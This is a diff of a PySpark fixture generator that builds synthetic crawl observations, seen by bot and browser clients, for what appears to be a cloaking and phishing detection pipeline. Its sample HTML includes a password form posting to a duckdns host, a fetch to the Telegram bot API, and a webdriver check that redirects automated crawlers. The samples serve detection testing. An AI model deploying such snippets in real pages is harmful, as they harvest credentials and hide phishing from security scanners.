@@ -1,40 +1,71 @@
-"""Recorded observations, four per page (two clients, two replicates), derived from ``pages`` in twelve scenarios."""
+"""Recorded observations of the fixture tables: four per page (two clients, two replicates) and two variants, in scenarios.
+
+``pages`` holds one document per page. What each client saw of it follows from ``page_id % 24``, so every rule, gate, issue
+and signal has pages that reach it. A deployment reads such rows from its own store.
+"""
 
 from __future__ import annotations
 
 from pyspark.sql import Column, DataFrame, SparkSession
 from pyspark.sql import functions as F
 
+from ..functions.urls import human_first
+
 EVIL = '<form action="https://collect.duckdns.org/x"><input type="password" name="p"></form><script>fetch("https://api.telegram.org/bot",{method:"POST"})</script><body oncontextmenu="return false">'
 LOGIN = '<form action="/login"><input type="password" required></form>'
-GATE = '<div class="captcha-box">captcha challenge</div>'
+GATE = '<div class="g-recaptcha">one moment</div>'
+PROMPT = "<script>confirm('continue')</script>"
+ARTIFACT = "<script>if(navigator.webdriver){window.location='https://a.example'}</script>"
+BLANK = "<script>document.title</script>"
+TITLES = ("<title>Front page</title>", "<title>404 Not Found</title>")
+SCENARIOS = 24
+BOT, HUMAN = "http_baseline", "browser"
+RESET = "net::ERR_HTTP2_PROTOCOL_ERROR"
+
 
-#: (slot, replicate) and the scenarios in which it sees the harmful page, a login, a gate, nothing, or an error.
-_SLOTS = (("bot", 1), ("human", 1), ("bot", 2), ("human", 2))
+def plan(slot: Column, replicate: Column, url: Column) -> Column:
+    """The position of an observation: replicates in turn, in each the client whose turn the address decides goes first."""
+    return 2 * (replicate - 1) + F.when(human_first(url) == (slot == "human"), 1).otherwise(2)
+
+
+def describe_plan(url: Column, variants: tuple[str, ...] = ()) -> Column:
+    """The plan as text, such as ``bot_first:B1,H1,B2,H2;variants=``."""
+    return F.concat(F.when(human_first(url), "human_first:H1,B1,H2,B2").otherwise("bot_first:B1,H1,B2,H2"), F.lit(";variants=" + ",".join(sorted(variants))))
 
 
 def observations(spark: SparkSession, sf_dir: str) -> DataFrame:
-    pages = spark.read.parquet(f"{sf_dir}/pages.parquet").select("page_id", "url", "html", (F.col("page_id") % 12).alias("scenario"))
-    slots = F.array(*[F.struct(F.lit(s).alias("slot"), F.lit(r).alias("replicate"), F.lit(i + 1).alias("access_index")) for i, (s, r) in enumerate(_SLOTS)])
-    o = pages.withColumn("o", F.explode(slots)).select("*", "o.slot", "o.replicate", "o.access_index").drop("o")
-    human, bot, first = F.col("slot") == "human", F.col("slot") == "bot", F.col("replicate") == 1
-    s = F.col("scenario")
-    evil = (human & s.isin(1, 3, 5, 6)) | (human & first & (s == 2)) | (bot & first & (s == 7)) | (s == 8)
-    extra = F.when(evil, EVIL).when(human & (s == 4), LOGIN).when(human & (s == 9), GATE).otherwise("")
-    empty = (bot & (s == 5)) | (human & first & (s == 10))
-    status = F.when(bot & s.isin(3, 4), 403).when(bot & ~first & (s == 11), 503).when(human & first & (s == 10), 0).otherwise(200)
+    """One row per observation; ``url`` is the address of its document, ``page_url`` that of the page after its scripts ran."""
+    slots = F.array(*[F.struct(F.lit(s).alias("slot"), F.lit(k).alias("kind"), F.lit(r).alias("replicate")) for r in (1, 2) for s, k in (("bot", BOT), ("human", HUMAN))])
+    pages = spark.read.parquet(f"{sf_dir}/pages.parquet").select("page_id", F.col("url").alias("asked"), F.col("html").alias("raw"), (F.col("page_id") % SCENARIOS).alias("scenario"))
+    o = pages.withColumn("o", F.explode(slots)).select("*", "o.slot", "o.kind", "o.replicate").drop("o")
+    human, bot, first, s = F.col("slot") == "human", F.col("slot") == "bot", F.col("replicate") == 1, F.col("scenario")
+    o = o.withColumn("access_index", plan(F.col("slot"), F.col("replicate"), F.col("asked")))
+    evil = (human & s.isin(1, 3, 5, 6, 14)) | (human & first & (s == 2)) | (bot & first & (s == 7)) | (s == 8)
+    extra = (
+        F.when(evil, EVIL).when(human & (s == 4), LOGIN).when(human & s.isin(9, 13), GATE).when(human & (s == 15), TITLES[0]).when(s == 16, ARTIFACT).when(human & (s == 23), TITLES[1] + PROMPT).otherwise("")
+    )
+    empty = (bot & (s == 5)) | (human & first & (s == 10)) | (bot & (s == 14))
+    status = F.when(bot & s.isin(3, 4), 403).when(bot & ~first & (s == 11), 503).when((human & first & (s == 10)) | (bot & (s == 14)), 0).when(human & (s == 23), 404).otherwise(200)
+    html = F.when(empty, "").when(s == 20, BLANK).otherwise(F.concat(F.coalesce("raw", F.lit("")), extra))
+    final = F.when(human & (s == 6), "https://other.example/").otherwise(F.col("asked"))
+    dom = F.when(bot | (status == 0), None).when(s == 12, F.concat(html, F.lit(EVIL))).when(s == 20, F.coalesce("raw", F.lit(""))).otherwise(html)
+    chain = F.when(s == 22, F.array("asked", F.lit("https://hop.example/"), "asked")).when(final != F.col("asked"), F.array("asked", final)).otherwise(F.array("asked"))
+    at = F.timestamp_millis(F.lit(1704067200000) + F.col("page_id") * 60000 + F.col("access_index") * (17250 + F.col("page_id") % 7))
     return o.select(
-        "page_id", "url", "scenario", "slot", "replicate", "access_index", status.alias("status"), F.when(human & first & (s == 10), "timeout").alias("error"),
-        F.when(empty, "").otherwise(F.concat("html", extra)).alias("html"), F.when(human & (s == 6), "https://other.example/").otherwise(F.col("url")).alias("last_hop"),
+        "page_id", "asked", "scenario", "slot", "kind", "replicate", "access_index", F.when((s == 20) & (F.col("access_index") == 3), None).otherwise(at).alias("observed_at"),
+        status.alias("status"), F.when(human & first & (s == 10), "timeout").when(bot & (s == 14), RESET).alias("error"), html.alias("html"), final.alias("url"), F.when(status == 0, F.array().cast("array<string>")).otherwise(chain).alias("redirect_chain"),
+        dom.alias("dom_html"), F.when(human & (s == 22), F.concat("asked", F.lit("#late"))).when(human, final).alias("page_url"), (human & first & (s == 18)).alias("truncated"), F.lit(False).alias("dom_truncated"), (bot & (s == 19)).alias("non_html"),
+        F.when(human & ~first & (s == 10), "body lost").otherwise("").alias("body_error"), F.when(human & (s == 21), 2).otherwise(0).alias("blocked"), F.when(human & (s == 21) & first, 1).otherwise(0).alias("failed"),
+        *[F.when(human & (s == 21), 1).otherwise(0).alias(c) for c in ("dialogs", "downloads", "popups")], F.when(human & (s == 22), 1).otherwise(0).alias("client_navigations"),
+        F.when(human & (status != 0), html).alias("early_html"),
     )
 
 
-def issues(html: str = "html") -> Column:
-    """Sorted issue codes of one observation's server document."""
-    body = F.coalesce(F.col(html), F.lit(""))
-    failed = (F.coalesce("error", F.lit("")) != "") | (F.col("status") == 0)
-    codes = [
-        (failed, "crawl_error"), ((F.col("status") != 0) & ~F.col("status").between(200, 299), "http_error_status"), ((body == "") & ~failed, "empty_document"),
-        (body.rlike("(?i)captcha"), "challenge_or_block_page"),
-    ]
-    return F.array_sort(F.array_compact(F.array(*[F.when(c, F.lit(n)) for c, n in codes])))
+def variants(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """Observations of changed clients: with a referer (``html``) and of a small screen (``dom``), on some pages only."""
+    o = observations(spark, sf_dir).filter("replicate = 1")
+    s, human = F.col("scenario"), F.col("slot") == "human"
+    mobile = o.filter(human & s.isin(0, 17, 18)).withColumns({"variant": F.lit("mobile"), "html": F.coalesce("dom_html", "html")})
+    mobile = mobile.withColumn("html", F.when(s == 17, F.concat("html", F.lit(TITLES[0]), F.lit(EVIL))).otherwise(F.col("html"))).withColumn("url", F.col("page_url"))
+    referer = o.filter((F.col("slot") == "bot") & s.isin(0, 17, 19)).withColumn("variant", F.lit("referer")).withColumn("status", F.when(s == 17, 302).otherwise(F.col("status")))
+    return mobile.unionByName(referer).select("page_id", "slot", "replicate", "access_index", "variant", "status", "error", "html", "url", "truncated", "non_html", "body_error")
